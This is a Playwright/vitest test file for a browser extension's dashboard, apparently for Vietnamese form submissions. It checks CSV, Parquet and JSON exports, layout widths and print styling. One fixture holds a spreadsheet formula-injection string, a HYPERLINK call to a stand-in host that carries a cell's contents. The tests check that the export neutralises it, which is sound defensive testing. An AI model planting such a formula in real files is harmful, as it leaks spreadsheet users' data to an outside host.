import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parquetReadObjects } from 'hyparquet';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { summariseDays } from '../../lib/metrics/index.ts';
import { readCsv } from '../fixtures/csv.ts';
import { fieldsOf, submissions } from '../fixtures/submissions.ts';
import type { Stores } from './extension.ts';
import { type Stage, setStage, until } from './stage.ts';

/** What a page could call a field to have it run on the machine of whoever opens the table. */
const HOSTILE = '=HYPERLINK("https://example.invalid/?"&A1;"Xem")\n;+1';
const list = submissions(60).map((it) => ({ ...it, dossierMark: 'a-mark-that-stays-here' }));
const fields = list.flatMap(({ id }) => fieldsOf(id));
if (fields[0]) fields[0] = { ...fields[0], label: HOSTILE };
if (fields[1]) fields[1] = { ...fields[1], label: 'o_khai_khong_co_dau_cach_'.repeat(12) };
const records: Partial<Stores> = { submissions: list, fields, days: summariseDays(list) };

let stage: Stage;
let folder: string;
let dashboard: Page;
beforeAll(async () => {
  stage = await setStage();
  await stage.extension.agree();
  folder = await mkdtemp(join(tmpdir(), 'dong-hanh-downloads-'));
  const session = await stage.launched.context.browser()?.newBrowserCDPSession();
  await session?.send('Browser.setDownloadBehavior', { behavior: 'allow', downloadPath: folder });
  const page = await stage.extension.open('dashboard');
  await page.locator('#submissions').waitFor();
  await page.evaluate(write, records);
  await page.close();
  dashboard = await stage.extension.open('dashboard');
  await dashboard.locator('tr[data-submission]').first().waitFor();
});
afterAll(async () => {
  await stage.close();
  await rm(folder, { recursive: true, force: true });
});

/** Writes records into the extension's database as they are. */
async function write(all: Partial<Stores>): Promise<void> {
  const opened = indexedDB.open('dong-hanh');
  await new Promise((resolve) => {
    opened.onsuccess = resolve;
  });
  const names = Object.keys(all) as (keyof Stores)[];
  const tx = opened.result.transaction(names, 'readwrite');
  for (const name of names) for (const record of all[name] ?? []) tx.objectStore(name).put(record);
  await new Promise((resolve, reject) => {
    tx.oncomplete = resolve;
    tx.onabort = () => reject(tx.error);
  });
  opened.result.close();
}

/** Chooses this table in this format, presses the button, and takes the file from the folder of downloads. */
async function downloaded(format: string, table: string, ending = format): Promise<Buffer> {
  await dashboard.bringToFront();
  await dashboard.locator('select[name="format"]').selectOption(format);
  if (format !== 'json') await dashboard.locator('select[name="table"]').selectOption(table);
  await dashboard.locator('[data-action="export"]').press('Enter');
  const said = await dashboard.locator('.export .good').textContent();
  const name = /dong-hanh-[\w-]+\.\w+/.exec(said ?? '')?.[0] ?? '';
  expect(name.endsWith(`.${ending}`)).toBe(true);
  await until(
    () => readdir(folder),
    (files) => files.includes(name),
  );
  const bytes = await readFile(join(folder, name));
  await rm(join(folder, name));
  return bytes;
}

describe('the tables of the dashboard', () => {
  const TABLES = [
    ['submissions', list.length],
    ['steps', list.flatMap(({ steps }) => steps).length],
    ['fields', fields.length],
    ['days', summariseDays(list).length],
  ] as const;

  it.each(TABLES)('are downloaded for Excel: %s', async (table, count) => {
    const bytes = await downloaded('csv', table);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(readCsv(text)).toHaveLength(count + 1);
    expect(text).not.toMatch(/dossierMark|a-mark-that-stays-here/);
    expect(await dashboard.locator('.export [role="status"]').textContent()).toContain('Từ Văn bản/CSV');
  });

  it('say what the records say, and hold no label that a spreadsheet runs', async () => {
    const [head = [], ...rows] = readCsv((await downloaded('csv', 'fields')).toString('utf8').slice(1));
    const at = (name: string) => head.findIndex(({ text }) => text === name);
    const of = (id: string, key: string) =>
      rows.find((row) => row[at('submissionId')]?.text === id && row[at('key')]?.text === key);
    for (const it of fields) {
      const row = of(it.submissionId, it.key);
      expect(row?.[at('label')]?.text).toBe(
        it.label === HOSTILE ? `'${HOSTILE.replace(';+', ";'+")}` : it.label,
      );
      expect(row?.[at('state')]?.text).toBe(it.state);
      expect(row?.[at('focusCount')]?.text).toBe(String(it.focusCount));
    }
  });

  it('are downloaded as Parquet, and what writes it is loaded only then', async () => {
    const loaded: string[] = [];
    dashboard.on('request', (request) => loaded.push(new URL(request.url()).pathname));
    await dashboard.reload();
    await dashboard.locator('tr[data-submission]').first().waitFor();
    const writers = () => loaded.filter((path) => path.includes('parquet'));
    expect(loaded.filter((path) => path.includes('dashboard-'))).not.toEqual([]);
    expect(writers()).toEqual([]);
    for (const [table, count] of TABLES) {
      const { buffer, byteOffset, byteLength } = await downloaded('parquet', table);
      const file = buffer.slice(byteOffset, byteOffset + byteLength) as ArrayBuffer;
      const rows = await parquetReadObjects({ file });
      expect(rows).toHaveLength(count);
      if (table === 'submissions')
        expect(new Map(rows.map((it) => [it.id, it.startedAt]))).toEqual(
          new Map(list.map((it) => [it.id, new Date(it.startedAt)])),
        );
      if (table === 'fields') expect(rows.filter(({ label }) => label === HOSTILE)).toHaveLength(1);
    }
    expect(writers()).toHaveLength(1);
  });

  it('leave everything in one file what it was', async () => {
    const file = JSON.parse((await downloaded('json', '')).toString('utf8'));
    expect([file.submissions.length, file.fields.length]).toEqual([list.length, fields.length]);
    expect(await dashboard.locator('select[name="table"]').count()).toBe(0);
  });

  it('say that it failed and what to do when the writer cannot be loaded', async () => {
    const page = await stage.extension.open('dashboard');
    await page.bringToFront();
    await page.locator('select[name="format"]').selectOption('parquet');
    const session = await stage.launched.context.newCDPSession(page);
    await session.send('Network.enable');
    await session.send('Network.setBlockedURLs', { urls: ['*parquet*'] });
    await page.locator('[data-action="export"]').press('Enter');
    await page.locator('.export .bad').waitFor();
    expect(await page.locator('.export .bad').textContent()).toContain('mở lại trang này rồi thử lại');
    expect(await page.locator('[data-action="export"]').isEnabled()).toBe(true);
    await page.close();
  });
});

it('an opened dossier is not broader than the window, whatever the page calls its fields', async () => {
  const page = await stage.extension.open('dashboard');
  await page.bringToFront();
  await page.locator('tr[data-submission] button').first().click();
  await page.locator('[data-detail] [data-field]').first().waitFor();
  for (const width of [1280, 1030, 853, 360]) {
    await page.setViewportSize({ width, height: 900 });
    const cut = await page.evaluate(
      () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
    );
    expect([width, cut]).toEqual([width, 0]);
  }
  await page.close();
});

/** Breadth of the text on A4 with margins of 12 mm, CSS pixels. */
const PAPER = 703;

describe('the dashboard on paper', () => {
  let page: Page;
  beforeAll(async () => {
    await stage.extension.choose({ role: 'volunteer' });
    page = await stage.extension.open('dashboard');
    await page.locator('tr[data-submission]').first().waitFor();
    await page.locator('.day').waitFor();
    await page.setViewportSize({ width: PAPER, height: 1000 });
    // A person's laptop may be dark: paper is not.
    await page.emulateMedia({ media: 'print', colorScheme: 'dark' });
  });
  afterAll(() => page.close());

  /** The headings and the words of controls that are printed, and how much is cut at the right. */
  const seen = () =>
    page.evaluate(() => {
      const isSeen = (it: Element) => it.checkVisibility() && it.getBoundingClientRect().width > 1;
      const textOf = (selector: string) =>
        [...document.querySelectorAll(selector)].filter(isSeen).map((it) => it.textContent ?? '');
      const styleOf = (it: Element | null | undefined, what: 'color' | 'backgroundColor' | 'display') =>
        it && getComputedStyle(it)[what];
      const root = document.documentElement;
      const table = document.querySelector('.fields') ?? document.querySelector('.list');
      return {
        headings: textOf('h1, h2'),
        controls: textOf('button:not(.open), select, input, textarea, a'),
        names: textOf('.open').length,
        columns: [...document.querySelectorAll('.list thead th')]
          .filter(isSeen)
          .map((it) =>
            it.querySelector('button')
              ? getComputedStyle(it, '::before').content.slice(1, -1)
              : it.textContent,
          ),
        ink: styleOf(document.body, 'color'),
        ground: styleOf(root, 'backgroundColor'),
        row: styleOf(table?.querySelector('tbody tr'), 'display'),
        head: styleOf(table?.querySelector('thead'), 'display'),
        cut: root.scrollWidth - root.clientWidth,
      };
    });
  const ON_PAPER = {
    controls: [],
    ink: 'rgb(29, 36, 51)',
    ground: 'rgba(0, 0, 0, 0)',
    row: 'table-row',
    head: 'table-header-group',
    cut: 0,
  };

  it('is the overview and the list, dark on white, with nothing to press and nothing cut', async () => {
    const { headings, columns, names, ...look } = await seen();
    expect(headings).toEqual(['Đồng hành Bảng tổng hợp', 'Tổng quan', 'Hồ sơ']);
    expect(columns.slice(0, 3)).toEqual(['Bắt đầu', 'Thủ tục', 'Kết quả']);
    expect(names).toBe(40);
    expect(look).toEqual(ON_PAPER);
    expect(await page.locator('.on-paper').textContent()).toMatch(/^Số liệu đến ngày \d\d\/\d\d\/\d{4}$/);
  });

  it('says by what its list is filtered', async () => {
    const filters = page.locator('.filters select');
    const printed = () => filters.evaluateAll((all) => all.map((it) => it.checkVisibility()));
    await page.emulateMedia({ media: 'screen' });
    await filters.last().selectOption('submitted');
    await page.emulateMedia({ media: 'print', colorScheme: 'dark' });
    expect(await printed()).toEqual([false, true]);
    await page.emulateMedia({ media: 'screen' });
    await filters.last().selectOption('*');
    await page.emulateMedia({ media: 'print', colorScheme: 'dark' });
    expect(await printed()).toEqual([false, false]);
  });

  it('is an opened dossier alone, its fields as a table', async () => {
    await page.emulateMedia({ media: 'screen' });
    expect((await seen()).controls).toContain('In tổng quan và các hồ sơ đang hiện');
    await page.bringToFront();
    await page.locator('tr[data-submission] button').first().click();
    await page.locator('[data-detail] [data-field]').first().waitFor();
    await page.emulateMedia({ media: 'print', colorScheme: 'dark' });
    const { headings, columns, names, ...look } = await seen();
    expect(headings).toEqual(['Đồng hành Bảng tổng hợp', list[0]?.procedure.name]);
    expect(columns.slice(0, 2)).toEqual(['Số', 'Ô trên tờ khai']);
    expect(names).toBe(0);
    expect(look).toEqual(ON_PAPER);
  });

  it('is asked for with a button', async () => {
    await page.emulateMedia({ media: 'screen' });
    await page.evaluate(() => {
      window.print = () => document.body.setAttribute('data-printed', '');
    });
    await page.locator('[data-action="print"]').press('Enter');
    expect(await page.locator('body[data-printed]').count()).toBe(1);
    expect(await page.locator('[data-action="print"]').textContent()).toBe('In hồ sơ này');
  });
});
